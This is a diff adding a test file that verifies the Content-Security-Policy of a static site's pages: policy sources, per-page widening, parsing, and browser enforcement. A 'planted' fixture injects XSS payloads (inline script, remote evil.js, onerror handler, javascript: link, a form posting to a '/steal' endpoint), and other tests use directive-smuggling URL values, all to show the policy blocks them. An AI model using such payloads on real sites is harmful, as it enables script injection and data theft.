@@ -1,0 +1,317 @@
+"""Every page carries a Content-Security-Policy: its sources, its widening, and what a browser does with it."""
+
+from __future__ import annotations
+
+import functools
+import http.server
+import threading
+from pathlib import Path
+
+import pytest
+from bs4 import BeautifulSoup
+from csp.policy import BASE, fetched_sources, header, origin, parse, widen
+from publishing.strict import strict_build
+
+from tests.conftest import ARTICLE, QuietHandler
+from tests.formservice import FormService
+from tests.sitebuild import ROOT, build_site, copy_content, page
+from tests.test_escaping import html_pages
+
+# A post that shows an image from an old blog's media host, a page that embeds a video
+# player whose API it calls (its CSP field says so), and a template page that runs WebAssembly.
+REMOTE_IMAGE_POST = """\
+Title: Interview Outfits, Then and Now
+Date: 2015-03-01 10:00
+Author: Chris
+Tags: interviews
+Slug: interview-outfits
+
+| Then | Now |
+| :--- | ---: |
+| suit | jacket |
+
+![A 2014 photo of a suit](https://media.oldblog.example/2014/03/suit.jpg "Then")
+"""
+VIDEO_PAGE = """\
+Title: Watch the Workshop
+Date: 2015-04-01
+CSP: connect-src https://api.video.example; bogus-src x; img-src javas'cript:
+
+<iframe src="https://video.example/embed/42" title="The workshop"></iframe>
+"""
+SEARCH_TEMPLATE = """\
+{% extends "base.html" %}
+{% set csp_widen = {"script-src": ["'wasm-unsafe-eval'"]} %}
+{% block content %}<h1>Search</h1>{% endblock content %}
+"""
+
+
+def policy_of(soup: BeautifulSoup) -> dict[str, list[str]]:
+    """A page's policy from its meta tag, as directive -> sources."""
+    metas = soup.find_all("meta", attrs={"http-equiv": "Content-Security-Policy"})
+    assert len(metas) == 1
+    return {part.split()[0]: part.split()[1:] for part in metas[0]["content"].split(";") if part.strip()}
+
+
+def csp_content(tmp: Path) -> Path:
+    content = copy_content(tmp)
+    (content / "interview-outfits.md").write_text(REMOTE_IMAGE_POST, encoding="utf-8")
+    (content / "pages").mkdir()
+    (content / "pages" / "workshop.md").write_text(VIDEO_PAGE, encoding="utf-8")
+    (content / "search.html").write_text(SEARCH_TEMPLATE, encoding="utf-8")
+    return content
+
+
+# Build settings for that content: the search template is a template page, not a post.
+TEMPLATE_PAGE = {"TEMPLATE_PAGES": {"search.html": "search/index.html"}, "IGNORE_FILES": ["search.html", "*.credit"]}
+
+
+@pytest.fixture(scope="module")
+def production(tmp_path_factory):
+    """The production build (publishconf.py) of that content; returns (output, warnings)."""
+    tmp = tmp_path_factory.mktemp("csp-production")
+    content = csp_content(tmp)
+    output = tmp / "output"
+    warnings = strict_build(
+        str(ROOT / "publishconf.py"),
+        {
+            "PATH": str(content),
+            "OUTPUT_PATH": str(output),
+            "SITEURL": "https://second-round.example",
+            "COMMENTS_FORMSPREE_ID": "xyzzy",
+            "CSP_FORM_ACTION": ["https://newsletter.example/subscribe"],
+            "CSP_SOURCES": {"font-src": ["https://fonts.example"]},
+            "PUBLISHING_CHECK_LINKS": False,
+            **TEMPLATE_PAGE,
+        },
+    )
+    return output, warnings
+
+
+def test_every_page_of_a_production_build_carries_the_policy_first(production):
+    output, _warnings = production
+    pages = html_pages(output)
+    assert len(pages) > 15
+    for path, soup in pages:
+        head = [tag for tag in soup.head.find_all(True, recursive=False)]
+        assert head[1].get("http-equiv") == "Content-Security-Policy", path  # right after <meta charset>
+        policy = policy_of(soup)
+        assert policy["script-src"][0] == "'self'" and "'unsafe-inline'" not in policy["script-src"], path
+        assert policy["object-src"] == ["'none'"] and policy["base-uri"] == ["'none'"], path
+
+
+def test_the_policy_allows_what_the_content_uses_and_the_form_services(production):
+    output, _warnings = production
+    policy = policy_of(page(output, ARTICLE))
+    assert policy["img-src"] == ["'self'", "https://media.oldblog.example"]
+    assert policy["form-action"] == ["'self'", "https://formspree.io", "https://newsletter.example"]
+    assert policy["style-src"] == ["'self'"] and policy["style-src-attr"] == ["'unsafe-inline'"]
+    assert policy["font-src"] == ["'self'", "https://fonts.example"]  # the owner's CSP_SOURCES
+    assert "connect-src" not in policy
+    outfits = page(output, "interview-outfits/")
+    assert outfits.select("table th[style]")  # Markdown's alignment, which style-src-attr allows
+
+
+def test_a_page_widens_its_own_policy_and_no_other(production):
+    output, warnings = production
+    assert policy_of(page(output, "watch-the-workshop/"))["connect-src"] == ["'self'", "https://api.video.example"]
+    assert policy_of(page(output, "search/"))["script-src"] == ["'self'", "'wasm-unsafe-eval'"]
+    for path, soup in html_pages(output):
+        policy = policy_of(soup)
+        assert policy["frame-src"] == ["'self'", "https://video.example"], path  # the content's own embed
+        if path not in ("watch-the-workshop/index.html", "search/index.html"):
+            assert "connect-src" not in policy and policy["script-src"] == ["'self'"], path
+    assert any("workshop.md: CSP field: unknown directive 'bogus-src'" in w for w in warnings), warnings
+    assert any('img-src: "javas\'cript:" is not a source' in w for w in warnings), warnings
+
+
+def test_redirect_pages_load_nothing(tmp_path):
+    from wordpress import REDIRECT_POLICY, redirect_page
+
+    soup = BeautifulSoup(redirect_page("https://site.example/new/", "New"), "html.parser")
+    assert soup.find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"] == REDIRECT_POLICY
+    assert "default-src 'none'" in REDIRECT_POLICY
+
+
+def test_development_builds_allow_livereload_and_csp_false_writes_none(tmp_path):
+    output = build_site(tmp_path / "dev")
+    policy = policy_of(page(output, ARTICLE))
+    assert "'unsafe-inline'" in policy["script-src"] and "ws:" in policy["connect-src"]
+    off = build_site(tmp_path / "off", CSP=False)
+    assert not page(off, ARTICLE).find("meta", attrs={"http-equiv": "Content-Security-Policy"})
+
+
+@pytest.mark.parametrize(
+    ("url", "source"),
+    [
+        ("https://media.example/a.jpg", "https://media.example"),
+        ("http://Media.Example:8080/a.jpg", "http://media.example:8080"),
+        ("//cdn.example/x.png", "cdn.example"),
+        ("data:image/png;base64,AAAA", "data:"),
+        ("images/x.jpg", ""),
+        ("{static}/images/x.jpg", ""),
+        ("javascript:alert(1)", ""),
+        ("https://a.example'; script-src *", ""),
+        ("http://[::1", ""),
+    ],
+)
+def test_origin_of_a_fetched_url(url, source):
+    assert origin(url) == source
+
+
+def test_fetched_sources_finds_images_media_and_frames():
+    html = (
+        '<img src="https://a.example/1.jpg" srcset="https://b.example/1.jpg 480w, images/x.jpg 800w">'
+        '<video src="https://c.example/v.mp4" poster="https://d.example/p.jpg"></video>'
+        '<iframe src="https://e.example/embed"></iframe><a href="https://not-fetched.example/">link</a>'
+    )
+    assert fetched_sources(html) == {
+        "img-src": {"https://a.example", "https://b.example", "https://d.example"},
+        "media-src": {"https://c.example"},
+        "frame-src": {"https://e.example"},
+    }
+
+
+def test_widening_only_ever_adds():
+    widened = widen(BASE, {"connect-src": ("https://api.example",), "object-src": ("https://x.example",)})
+    assert widened["connect-src"] == ("'self'", "https://api.example")  # from default-src, as a browser would
+    assert widened["object-src"] == ("https://x.example",)  # 'none' gives way
+    assert widen(BASE, {"img-src": ("'none'",)})["img-src"] == ("'self'",)
+    assert all(set(BASE[d]) <= set(widened[d]) or BASE[d] == ("'none'",) for d in BASE)
+
+
+def test_parse_keeps_what_is_valid_and_names_the_rest():
+    policy, problems = parse("script-src 'wasm-unsafe-eval' 'sha256-AbC+/0=';;frame-src https://v.example 'bad' <x>; y")
+    assert policy == {"script-src": ("'wasm-unsafe-eval'", "'sha256-AbC+/0='"), "frame-src": ("https://v.example",)}
+    assert [p.split(" is not")[0].split(" (")[0] for p in problems] == [
+        "frame-src: \"'bad'\"",
+        "frame-src: '<x>'",
+        "unknown directive 'y'",
+    ]
+    assert header(policy) == "script-src 'wasm-unsafe-eval' 'sha256-AbC+/0='; frame-src https://v.example"
+
+
+# --- In the browser: the policy holds, and the real pages work under it ---------------------------
+
+PLANTED = """
+<script>document.documentElement.dataset.planted = "inline";</script>
+<script src="{evil}/evil.js"></script>
+<img src="x" onerror="document.documentElement.dataset.planted = 'handler'">
+<a id="planted-link" href="javascript:document.documentElement.dataset.planted = 'link'">a link</a>
+<form id="planted-form" action="{evil}/steal" method="post"><input name="q" value="1"><button>Send</button></form>
+"""
+
+
+class Server:
+    """A static file server on 127.0.0.1 (port 0), serving a folder and noting every request it gets."""
+
+    def __init__(self, folder: Path):
+        requests = self.requests = []
+
+        class Noting(QuietHandler):
+            def do_GET(self):
+                requests.append(f"GET {self.path}")
+                super().do_GET()
+
+            def do_POST(self):
+                requests.append(f"POST {self.path}")
+                self.send_response(204)
+                self.end_headers()
+
+        handler = functools.partial(Noting, directory=str(folder))
+        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
+        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
+        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
+
+    def close(self):
+        self.httpd.shutdown()
+        self.httpd.server_close()
+
+
+@pytest.fixture(scope="module")
+def strict_site(tmp_path_factory):
+    """The production policy on a site served from 127.0.0.1, its comments posting to a stand-in service,
+    and a second origin serving a script that would mark the page if it ran."""
+    tmp = tmp_path_factory.mktemp("csp-browser")
+    content = csp_content(tmp)
+    output, elsewhere = tmp / "output", tmp / "elsewhere"
+    output.mkdir()
+    elsewhere.mkdir()
+    (elsewhere / "evil.js").write_text('document.documentElement.dataset.planted = "remote";')
+    site, evil = Server(output), Server(elsewhere)
+    with FormService(tmp / "export.json") as service:
+        build_site(
+            output,
+            PATH=str(content),
+            CSP_DEVELOPMENT=False,
+            COMMENTS_SERVICE="custom",
+            COMMENTS_FORM_ACTION=service.url,
+            SITEURL=site.url,
+            **TEMPLATE_PAGE,
+        )
+        (output / "planted" / "index.html").parent.mkdir()
+        article = (output / ARTICLE / "index.html").read_text(encoding="utf-8")
+        planted = article.replace("</main>", PLANTED.format(evil=evil.url) + "</main>")
+        (output / "planted" / "index.html").write_text(planted, encoding="utf-8")
+        yield {"site": site.url, "service": service, "elsewhere": evil}
+    site.close()
+    evil.close()
+
+
+def watch_violations(tab) -> None:
+    """Have every page the tab opens note its CSP violations in `window.__csp` ('directive blocked-uri')."""
+    tab.add_init_script(  # init scripts run outside the page's policy
+        "window.__csp = []; document.addEventListener('securitypolicyviolation',"
+        " e => window.__csp.push(e.effectiveDirective + ' ' + e.blockedURI));"
+    )
+
+
+def violations(tab) -> list[str]:
+    """The violations the page in the tab has reported so far."""
+    return tab.evaluate("window.__csp")
+
+
+@pytest.mark.parametrize("path", ["", ARTICLE, "interview-outfits/", "search/"])
+def test_the_real_pages_work_with_no_violation(browser_page, strict_site, path):
+    watch_violations(browser_page)
+    browser_page.goto(f"{strict_site['site']}/{path}")
+    browser_page.wait_for_load_state("networkidle")
+    assert browser_page.evaluate("document.styleSheets.length") >= 4
+    assert "Charter" in browser_page.evaluate("getComputedStyle(document.body).fontFamily")  # tokens.css applies
+    assert violations(browser_page) == []
+
+
+def test_a_script_planted_in_a_page_does_not_run(browser_page, strict_site):
+    watch_violations(browser_page)
+    browser_page.goto(f"{strict_site['site']}/planted/")
+    browser_page.wait_for_load_state("networkidle")
+    assert browser_page.evaluate("document.documentElement.dataset.planted") is None
+    directives = {v.split()[0] for v in violations(browser_page)}
+    assert {"script-src-elem", "script-src-attr"} <= directives, violations(browser_page)
+    assert not [r for r in strict_site["elsewhere"].requests if "evil.js" in r]  # never even fetched
+    reported = len(violations(browser_page))
+    browser_page.locator("#planted-link").click()  # a javascript: URL is a script too
+    browser_page.wait_for_function(f"() => window.__csp.length > {reported}")
+    assert browser_page.evaluate("document.documentElement.dataset.planted") is None
+
+
+def test_the_comment_form_posts_to_its_service(browser, strict_site):
+    context = browser.new_context(java_script_enabled=False)
+    tab = context.new_page()
+    tab.goto(f"{strict_site['site']}/{ARTICLE}")
+    form = tab.locator("#respond form")
+    form.locator("input[name=name]").fill("Reader")
+    form.locator("input[name=email]").fill("reader@example.com")
+    form.locator("textarea[name=comment]").fill("Thanks, this helped.")
+    form.get_by_role("button", name="Post Comment").click()
+    tab.wait_for_url("**/comment-received/")
+    assert strict_site["service"].submissions[-1]["data"]["comment"] == "Thanks, this helped."
+    context.close()
+
+
+def test_a_planted_form_cannot_post_to_another_site(browser_page, strict_site):
+    watch_violations(browser_page)
+    browser_page.goto(f"{strict_site['site']}/planted/")
+    browser_page.locator("#planted-form").evaluate("form => form.requestSubmit()")  # as its button would
+    browser_page.wait_for_function("() => window.__csp.some(v => v.startsWith('form-action'))")
+    assert not [r for r in strict_site["elsewhere"].requests if r.startswith("POST")]
